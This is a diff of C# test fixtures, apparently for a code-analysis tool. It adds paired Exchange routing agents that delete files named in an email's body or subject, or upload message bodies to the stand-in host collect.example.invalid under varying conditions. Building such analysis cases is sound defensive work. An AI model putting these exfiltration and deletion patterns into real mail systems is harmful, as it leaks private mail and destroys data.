@@ -2087,3 +2087,610 @@ namespace Txray.Pairs.P443
         }
     }
 }
+
+// 444: a file removed that the body names, and one that the subject names
+namespace Txray.Pairs.P444
+{
+    public class ClaimFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Claim();
+        }
+    }
+
+    public class OtherFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Other();
+        }
+    }
+
+    public class Claim : RoutingAgent
+    {
+        public Claim()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            File.Delete(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
+        }
+    }
+
+    public class Other : RoutingAgent
+    {
+        public Other()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            File.Delete(e.MailItem.Message.Subject);
+        }
+    }
+}
+
+// 445: two rules of which each is asked before it acts: the one that sends asks, and the other one
+namespace Txray.Pairs.P445
+{
+    public class ClaimFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Claim();
+        }
+    }
+
+    public class OtherFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Other();
+        }
+    }
+
+    public class Claim : RoutingAgent
+    {
+        private interface IRule
+        {
+            bool Matches(MailItem item);
+
+            void Act(MailItem item);
+        }
+
+        private sealed class Sending : IRule
+        {
+            public bool Matches(MailItem item)
+            {
+                return item.FromAddress.DomainPart == "fabrikam.example";
+            }
+
+            public void Act(MailItem item)
+            {
+                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
+            }
+        }
+
+        private sealed class Marking : IRule
+        {
+            public bool Matches(MailItem item)
+            {
+                return true;
+            }
+
+            public void Act(MailItem item)
+            {
+                item.Message.Subject = "marked";
+            }
+        }
+
+        private readonly IRule[] rules = { new Marking(), new Sending() };
+
+        public Claim()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            foreach (IRule rule in rules)
+            {
+                if (rule.Matches(e.MailItem))
+                {
+                    rule.Act(e.MailItem);
+                }
+            }
+        }
+    }
+
+    public class Other : RoutingAgent
+    {
+        private interface IRule
+        {
+            bool Matches(MailItem item);
+
+            void Act(MailItem item);
+        }
+
+        private sealed class Sending : IRule
+        {
+            public bool Matches(MailItem item)
+            {
+                return true;
+            }
+
+            public void Act(MailItem item)
+            {
+                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
+            }
+        }
+
+        private sealed class Marking : IRule
+        {
+            public bool Matches(MailItem item)
+            {
+                return item.FromAddress.DomainPart == "fabrikam.example";
+            }
+
+            public void Act(MailItem item)
+            {
+                item.Message.Subject = "marked";
+            }
+        }
+
+        private readonly IRule[] rules = { new Marking(), new Sending() };
+
+        public Other()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            foreach (IRule rule in rules)
+            {
+                if (rule.Matches(e.MailItem))
+                {
+                    rule.Act(e.MailItem);
+                }
+            }
+        }
+    }
+}
+
+// 446: the first rule that matches, with what it asks
+namespace Txray.Pairs.P446
+{
+    public class ClaimFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Claim();
+        }
+    }
+
+    public class OtherFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Other();
+        }
+    }
+
+    public class Claim : RoutingAgent
+    {
+        private interface IRule
+        {
+            bool Matches(MailItem item);
+
+            void Act(MailItem item);
+        }
+
+        private sealed class Sending : IRule
+        {
+            public bool Matches(MailItem item)
+            {
+                return item.FromAddress.DomainPart == "fabrikam.example";
+            }
+
+            public void Act(MailItem item)
+            {
+                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
+            }
+        }
+
+        private sealed class Marking : IRule
+        {
+            public bool Matches(MailItem item)
+            {
+                return item.Recipients.Count > 3;
+            }
+
+            public void Act(MailItem item)
+            {
+                item.Message.Subject = "marked";
+            }
+        }
+
+        private readonly IRule[] rules = { new Marking(), new Sending() };
+
+        public Claim()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            rules.First(rule => rule.Matches(e.MailItem)).Act(e.MailItem);
+        }
+    }
+
+    public class Other : RoutingAgent
+    {
+        private interface IRule
+        {
+            bool Matches(MailItem item);
+
+            void Act(MailItem item);
+        }
+
+        private sealed class Sending : IRule
+        {
+            public bool Matches(MailItem item)
+            {
+                return item.Recipients.Count > 3;
+            }
+
+            public void Act(MailItem item)
+            {
+                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
+            }
+        }
+
+        private sealed class Marking : IRule
+        {
+            public bool Matches(MailItem item)
+            {
+                return item.FromAddress.DomainPart == "fabrikam.example";
+            }
+
+            public void Act(MailItem item)
+            {
+                item.Message.Subject = "marked";
+            }
+        }
+
+        private readonly IRule[] rules = { new Marking(), new Sending() };
+
+        public Other()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            rules.First(rule => rule.Matches(e.MailItem)).Act(e.MailItem);
+        }
+    }
+}
+
+// 447: an object that one sender's mail puts in the place of a quiet one, and any mail
+namespace Txray.Pairs.P447
+{
+    public class ClaimFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Claim();
+        }
+    }
+
+    public class OtherFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Other();
+        }
+    }
+
+    public class Claim : RoutingAgent
+    {
+        private class Quiet
+        {
+            public virtual void Act(MailItem item)
+            {
+            }
+        }
+
+        private sealed class Sending : Quiet
+        {
+            public override void Act(MailItem item)
+            {
+                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
+            }
+        }
+
+        private static Quiet now = new Quiet();
+
+        public Claim()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            now.Act(e.MailItem);
+            if (e.MailItem.FromAddress.DomainPart == "fabrikam.example")
+            {
+                now = new Sending();
+            }
+        }
+    }
+
+    public class Other : RoutingAgent
+    {
+        private class Quiet
+        {
+            public virtual void Act(MailItem item)
+            {
+            }
+        }
+
+        private sealed class Sending : Quiet
+        {
+            public override void Act(MailItem item)
+            {
+                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
+            }
+        }
+
+        private static Quiet now = new Quiet();
+
+        public Other()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            now.Act(e.MailItem);
+            now = new Sending();
+        }
+    }
+}
+
+// 448: two rows of delegates: the one that sends asks, and the other one
+namespace Txray.Pairs.P448
+{
+    public class ClaimFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Claim();
+        }
+    }
+
+    public class OtherFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Other();
+        }
+    }
+
+    public class Claim : RoutingAgent
+    {
+        private sealed class Row
+        {
+            public Func<MailItem, bool> Matches;
+            public Action<MailItem> Act;
+        }
+
+        private readonly Row[] rows =
+        {
+            new Row { Matches = item => true, Act = item => item.Message.Subject = "marked" },
+            new Row { Matches = item => item.FromAddress.DomainPart == "fabrikam.example", Act = item => new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd()) }
+        };
+
+        public Claim()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            foreach (Row row in rows)
+            {
+                if (row.Matches(e.MailItem))
+                {
+                    row.Act(e.MailItem);
+                }
+            }
+        }
+    }
+
+    public class Other : RoutingAgent
+    {
+        private sealed class Row
+        {
+            public Func<MailItem, bool> Matches;
+            public Action<MailItem> Act;
+        }
+
+        private readonly Row[] rows =
+        {
+            new Row { Matches = item => item.FromAddress.DomainPart == "fabrikam.example", Act = item => item.Message.Subject = "marked" },
+            new Row { Matches = item => true, Act = item => new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd()) }
+        };
+
+        public Other()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            foreach (Row row in rows)
+            {
+                if (row.Matches(e.MailItem))
+                {
+                    row.Act(e.MailItem);
+                }
+            }
+        }
+    }
+}
+
+// 449: words that several rules keep, and one
+namespace Txray.Pairs.P449
+{
+    public class ClaimFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Claim();
+        }
+    }
+
+    public class OtherFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Other();
+        }
+    }
+
+    public class Claim : RoutingAgent
+    {
+        private sealed class Rule
+        {
+            public Rule(string word)
+            {
+                Word = word;
+            }
+
+            public string Word { get; private set; }
+        }
+
+        private readonly Rule[] rules = { new Rule("invoice"), new Rule("urgent") };
+
+        public Claim()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            foreach (Rule rule in rules)
+            {
+                if (e.MailItem.Message.Subject.Contains(rule.Word))
+                {
+                    new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
+                    break;
+                }
+            }
+        }
+    }
+
+    public class Other : RoutingAgent
+    {
+        private sealed class Rule
+        {
+            public Rule(string word)
+            {
+                Word = word;
+            }
+
+            public string Word { get; private set; }
+        }
+
+        private readonly Rule[] rules = { new Rule("urgent") };
+
+        public Other()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            foreach (Rule rule in rules)
+            {
+                if (e.MailItem.Message.Subject.Contains(rule.Word))
+                {
+                    new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
+                    break;
+                }
+            }
+        }
+    }
+}
+
+// 450: a number that is handed over, high enough for some mail, and for all
+namespace Txray.Pairs.P450
+{
+    public class ClaimFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Claim();
+        }
+    }
+
+    public class OtherFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Other();
+        }
+    }
+
+    public class Claim : RoutingAgent
+    {
+        private void Act(MailItem item, int level)
+        {
+            if (level > 2)
+            {
+                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
+            }
+        }
+
+        public Claim()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            Act(e.MailItem, 1);
+            if (e.MailItem.FromAddress.DomainPart == "fabrikam.example")
+            {
+                Act(e.MailItem, 3);
+            }
+        }
+    }
+
+    public class Other : RoutingAgent
+    {
+        private void Act(MailItem item, int level)
+        {
+            if (level > 2)
+            {
+                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
+            }
+        }
+
+        public Other()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            Act(e.MailItem, 3);
+        }
+    }
+}
